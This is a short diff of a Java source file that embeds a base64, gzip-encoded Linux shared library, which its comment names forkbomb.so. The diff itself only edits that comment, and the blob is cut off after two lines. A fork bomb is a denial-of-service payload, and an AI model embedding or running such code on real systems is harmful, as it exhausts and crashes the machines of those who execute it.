@@ -7,7 +7,7 @@ import java.util.Scanner;
 import java.util.zip.GZIPInputStream;
 
 public class Main {
-    /** forkbomb.so for Linux on x86-64, made from forkbomb.c beside this file. */
+    /** forkbomb.so for Linux on x86-64, made from forkbomb.c.txt beside this file. */
     static final String LIBRARY =
             "H4sIAAAAAAACA6t39XFjYmRkgAFmBjsGBI+BwQFGCyCLWTCwAkkOBnawWlYG3CCACZVmgJoD0scGEueHysuj0hsYUGmYPiYS"
                     + "9XFA6cCnJSlsDMQDmHeDgPpYSLCPEYlmQuITAiB1QgwsDJuhGqbDJLwSyxLjfRMz8+LT8ouyjQ0MGBzDHcMcQx1DQoN36wBV"
